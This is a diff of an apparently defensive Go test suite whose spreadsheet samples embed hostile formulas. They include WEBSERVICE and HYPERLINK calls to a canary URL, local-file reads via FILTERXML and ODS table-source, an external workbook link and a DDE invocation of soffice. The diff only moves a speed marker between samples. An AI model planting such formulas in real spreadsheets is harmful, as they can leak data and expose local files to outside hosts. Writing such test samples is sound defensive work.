@@ -21,7 +21,7 @@ func sheetSamples() []sample {
 		sheet("formulas that ask", xlsxType, "xlsx", packed(func(c canary) []entry {
 			return xlsxWith(cell("A2", `_xlfn.WEBSERVICE("`+c.url+`webservice")`)+cell("B2", `HYPERLINK("`+c.url+`link","x")`)+
 				cell("C2", `_xlfn.FILTERXML(_xlfn.WEBSERVICE("file://`+c.file+`"),"//x")`), "")
-		})).quickly(),
+		})),
 		sheet("links to other workbooks", xlsxType, "xlsx", packed(func(c canary) []entry {
 			return append(xlsxWith(cell("A2", "[1]Sheet1!A1"), relation("rIdE", "externalLink", "externalLinks/externalLink1.xml")),
 				entry{name: "xl/externalLinks/externalLink1.xml", content: `<externalLink xmlns="` + sheetNames + `"><externalBook xmlns:r="` + relationships +
@@ -55,7 +55,7 @@ func sheetSamples() []sample {
 		sheet("a sheet of a file", odsType, "ods", packed(func(c canary) []entry {
 			return ods("", `<table:table-source xlink:type="simple" xlink:href="file://`+c.file+
 				`" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:mode="copy-all"/>`)
-		})),
+		})).quickly(),
 		sheet("data of other programs", odsType, "ods", packed(func(c canary) []entry {
 			return ods(`<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;`+c.file+`&quot;;&quot;Sheet1.A1&quot;)" office:value-type="string"/>`, "")
 		})).because(notFollowed),
